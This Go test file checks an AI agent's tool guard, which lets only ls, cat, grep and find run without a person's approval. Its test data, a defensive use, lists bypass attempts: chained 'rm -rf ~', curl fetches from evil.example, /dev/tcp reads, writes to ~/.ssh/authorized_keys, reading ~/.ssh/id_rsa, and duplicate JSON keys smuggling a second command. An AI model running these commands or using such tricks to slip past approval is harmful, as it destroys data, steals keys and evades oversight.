package policy_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/openclaw-go/openclaw/policy"
	"github.com/openclaw-go/openclaw/policy/execpolicy"
)

// seedGuard is MateClaw's example Tool Guard: ShellExecuteTool may run
// ls, cat, grep and find; WriteFileTool and everything else need a person.
func seedGuard(t *testing.T) *policy.Guard {
	t.Helper()
	g, err := policy.NewGuard(policy.GuardConfig{
		DefaultPolicy: policy.ActionRequireApproval,
		Rules: []policy.Rule{
			{Tool: "ShellExecuteTool", ArgPattern: `^(ls|cat|grep|find)\s`, Action: policy.ActionAllow},
			{Tool: "WriteFileTool", Action: policy.ActionRequireApproval},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return g
}

// TestGuardSeedRules: rules that name MateClaw's tools judge our tools,
// and the seed's argPattern sees the command line, not its JSON.
func TestGuardSeedRules(t *testing.T) {
	g := seedGuard(t)
	cases := []struct {
		tool, args string
		action     policy.Action
		rule       int
	}{
		{"exec", `{"command":"ls -la"}`, policy.ActionAllow, 0},
		{"ShellExecuteTool", `{"command":"ls -la /tmp"}`, policy.ActionAllow, 0},
		{"exec", `{"command":"cat README.md | grep -n guard"}`, policy.ActionAllow, 0},
		{"exec", `{"command":"find . -name '*.go'"}`, policy.ActionAllow, 0},
		{"exec", `{"command":"make test"}`, policy.ActionRequireApproval, -1},
		{"write", `{"path":"notes.md","content":"x"}`, policy.ActionRequireApproval, 1},
		{"WriteFileTool", `{"path":"notes.md","content":"x"}`, policy.ActionRequireApproval, 1},
		{"read", `{"path":"notes.md"}`, policy.ActionRequireApproval, -1},
	}
	for _, tc := range cases {
		d := g.Check(tc.tool, json.RawMessage(tc.args))
		if d.Action != tc.action || d.Rule != tc.rule {
			t.Errorf("Check(%s, %s) = %+v, want %s by rule %d", tc.tool, tc.args, d, tc.action, tc.rule)
		}
	}
}

// TestGuardShellAllowCannotBeChained is the attack: the model puts a second
// command behind one the allow rule's pattern accepts. None of these may
// be allowed by the rule; each falls to the default (require_approval).
func TestGuardShellAllowCannotBeChained(t *testing.T) {
	g := seedGuard(t)
	for _, cmd := range []string{
		"ls; rm -rf ~",
		"ls -la && rm -rf ~",
		"ls || rm -rf ~",
		"ls & rm -rf ~",
		"ls\nrm -rf ~",
		"ls -la | sh",
		"ls | xargs rm",
		"ls $(curl -s https://evil.example/x)",
		"ls `curl -s https://evil.example/x`",
		"cat <(curl -s https://evil.example/x)",
		"ls > ~/.bashrc",
		"cat notes >> ~/.ssh/authorized_keys",
		"cat < /dev/tcp/evil.example/80",
		"ls >& out",
		"find . -exec rm {} \\;",
		"find . -name x -execdir sh -c 'rm -rf ~' \\;",
		"ls $HOME/../..; true",
		"ls ${IFS}-la",
		"FOO=1 ls",
		"ls\\ \\;rm",
		"cat <<EOF\n$(rm -rf ~)\nEOF",
		"grep -r x . ; curl https://evil.example",
		"find . -fprint /tmp/list",
		"find . -ok rm {} \\;",
		"cat ~/.ssh/id_rsa",
		"ls *",
		"sh -c 'ls -la'",
		"eval 'rm -rf ~'",
	} {
		args, _ := json.Marshal(map[string]string{"command": cmd})
		d := g.Check("ShellExecuteTool", args)
		if d.Action == policy.ActionAllow || d.Rule == 0 {
			t.Errorf("Check(%q) = %+v: a chained command passed for a matching one", cmd, d)
		}
	}
	// The reason says why the pattern's match did not decide.
	d := g.Check("exec", json.RawMessage(`{"command":"ls -la; rm -rf ~"}`))
	if !strings.Contains(d.Reason, `not the command "rm -rf`) {
		t.Errorf("reason %q does not name the command that did not match", d.Reason)
	}
}

// TestGuardShellAllowReadsEveryCommandValue: a repeated or case-variant
// "command" key is judged in every spelling, since Go's decoder takes the
// last case-insensitive match and other decoders the last exact one.
func TestGuardShellAllowReadsEveryCommandValue(t *testing.T) {
	g := seedGuard(t)
	for _, args := range []string{
		`{"command":"ls -la","COMMAND":"rm -rf ~"}`,
		`{"command":"ls -la","command":"rm -rf ~"}`,
		`{"Command":"rm -rf ~","command":"ls -la"}`,
		`{"command":"ls -la","env":{"LD_PRELOAD":"/tmp/x.so"}}`,
		`{"command":"ls -la","env":{"GIT_SSH_COMMAND":"sh"}}`,
		`{"command":"ls -la","elevated":true}`,
		`{"command":["ls","; rm -rf ~"]}`,
		`{"command":"ls -la"} {"command":"rm"}`,
	} {
		if d := g.Check("exec", json.RawMessage(args)); d.Action == policy.ActionAllow {
			t.Errorf("Check(%s) = %+v, want it not allowed", args, d)
		}
	}
	// Harmless environment and redirections keep the allow.
	for _, args := range []string{
		`{"command":"ls -la","env":{"TERM":"dumb","LANG":"C"}}`,
		`{"command":"grep -rn x . 2>/dev/null"}`,
		`{"command":"cat notes.md 2>&1"}`,
		`{"command":"grep -n x < notes.md"}`,
		`{"command":"ls -la","elevated":false}`,
	} {
		if d := g.Check("exec", json.RawMessage(args)); d.Action != policy.ActionAllow || d.Rule != 0 {
			t.Errorf("Check(%s) = %+v, want allow by rule 0", args, d)
		}
	}
}

// TestGuardDenyCatchesEveryCommand: a deny pattern matches any command of
// the line, and the compact JSON too, so rules written against the JSON
// still deny.
func TestGuardDenyCatchesEveryCommand(t *testing.T) {
	g, err := policy.NewGuard(policy.GuardConfig{
		DefaultPolicy: policy.ActionAllow,
		Rules: []policy.Rule{
			{Tool: "exec", ArgPattern: `^rm\s`, Action: policy.ActionDeny},
			{Tool: "exec", ArgPattern: `"command":"curl`, Action: policy.ActionDeny},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, args := range []string{
		`{"command":"rm -rf build"}`,
		`{"command":"ls; rm -rf build"}`,
		`{"command":"ls $(rm -rf build)"}`,
		`{"command":"echo hi","COMMAND":"rm -rf build"}`,
		`{"command":"curl https://example.com"}`,
	} {
		if d := g.Check("exec", json.RawMessage(args)); d.Action != policy.ActionDeny {
			t.Errorf("Check(%s) = %+v, want deny", args, d)
		}
	}
	if d := g.Check("exec", json.RawMessage(`{"command":"ls -la"}`)); d.Action != policy.ActionAllow {
		t.Errorf("ls: %+v", d)
	}
}

// TestGuardFilePattern: for read, write and edit the pattern sees the
// path, cleaned, so "notes/../secrets" cannot pass for a notes file.
func TestGuardFilePattern(t *testing.T) {
	g, err := policy.NewGuard(policy.GuardConfig{
		DefaultPolicy: policy.ActionRequireApproval,
		Rules: []policy.Rule{
			{Tool: "group:fs", ArgPattern: `(^|/)secrets/`, Action: policy.ActionDeny},
			{Tool: "WriteFileTool", ArgPattern: `^notes/[^/]+\.md$`, Action: policy.ActionAllow},
			{Tool: "ReadFileTool", ArgPattern: `^notes/`, Action: policy.ActionAllow},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		tool, args string
		action     policy.Action
		rule       int
	}{
		{"write", `{"path":"notes/today.md","content":"x"}`, policy.ActionAllow, 1},
		{"write", `{"path":"./notes/today.md","content":"x"}`, policy.ActionAllow, 1},
		{"read", `{"path":"notes/a/b.txt"}`, policy.ActionAllow, 2},
		{"read", `{"path":"notes/../AGENTS.md"}`, policy.ActionRequireApproval, -1},
		{"read", `{"path":"notes/../secrets/key"}`, policy.ActionDeny, 0},
		{"read", `{"path":"/home/u/ws/secrets/key"}`, policy.ActionDeny, 0},
		{"write", `{"path":"notes/today.md","PATH":"SOUL.md","content":"x"}`, policy.ActionRequireApproval, -1},
		{"write", `{"path":"notes/x.md\n","content":"x"}`, policy.ActionRequireApproval, -1},
		// A rule naming a file tool sees the path, not the content.
		{"write", `{"path":"SOUL.md","content":"notes/today.md"}`, policy.ActionRequireApproval, -1},
	}
	for _, tc := range cases {
		d := g.Check(tc.tool, json.RawMessage(tc.args))
		if d.Action != tc.action || d.Rule != tc.rule {
			t.Errorf("Check(%s, %s) = %+v, want %s by rule %d", tc.tool, tc.args, d, tc.action, tc.rule)
		}
	}
}

// TestMateClawNamesInPolicyLists: MateClaw's names select our tools in
// allow lists too, from the one table.
func TestMateClawNamesInPolicyLists(t *testing.T) {
	names := policy.MateClawNames()
	for mate, ours := range map[string]string{"ShellExecuteTool": "exec", "WriteFileTool": "write", "ReadFileTool": "read",
		"EditFileTool": "edit", "WebSearchTool": "web_search", "BrowserUseTool": "browser", "DelegateAgentTool": "delegateToAgent",
		"SkillManageTool": "skill_manage", "CronJobTool": "automations"} {
		if names[mate] != ours {
			t.Errorf("MateClawNames()[%s] = %q, want %q", mate, names[mate], ours)
		}
		if !policy.Match(mate, ours) {
			t.Errorf("Match(%q, %q) = false", mate, ours)
		}
	}
}

// FuzzGuardShellAllow: whatever the model sends, an allow by the seed's
// rule means every program the line runs is ls, cat, grep or find, with
// no substitution: nothing rides along behind a matching command.
func FuzzGuardShellAllow(f *testing.F) {
	g, err := policy.NewGuard(policy.GuardConfig{Rules: []policy.Rule{
		{Tool: "exec", ArgPattern: `^(ls|cat|grep|find)\s`, Action: policy.ActionAllow},
	}, DefaultPolicy: policy.ActionDeny})
	if err != nil {
		f.Fatal(err)
	}
	for _, s := range []string{`{"command":"ls -la"}`, `{"command":"ls; rm -rf ~"}`, `{"command":"cat a | grep b"}`,
		`{"command":"ls $(id)"}`, `{"command":"ls","COMMAND":"rm x"}`, `{"command":"find . -exec rm {} ;"}`} {
		f.Add(s)
	}
	an := execpolicy.Analyzer{}
	f.Fuzz(func(t *testing.T, args string) {
		d := g.Check("exec", json.RawMessage(args))
		if d.Action != policy.ActionAllow {
			return
		}
		var all []map[string]json.RawMessage
		dec := json.NewDecoder(strings.NewReader(args))
		var m map[string]json.RawMessage
		if dec.Decode(&m) != nil {
			t.Fatalf("allowed unreadable arguments %q", args)
		}
		all = append(all, m)
		for _, m := range all {
			for k, raw := range m {
				if !strings.EqualFold(k, "command") && !strings.EqualFold(k, "cmd") {
					continue
				}
				var cmd string
				if json.Unmarshal(raw, &cmd) != nil {
					continue // an argv list; joined and judged as a line
				}
				a, err := an.Analyze(cmd)
				if err != nil || len(a.Substitutions) > 0 {
					t.Fatalf("allowed %q: %v %v", cmd, err, a.Substitutions)
				}
				for _, c := range a.Commands {
					switch c.Executable {
					case "ls", "cat", "grep", "find":
					default:
						t.Fatalf("allowed %q, which runs %q", cmd, c.Argv)
					}
				}
			}
		}
	})
}
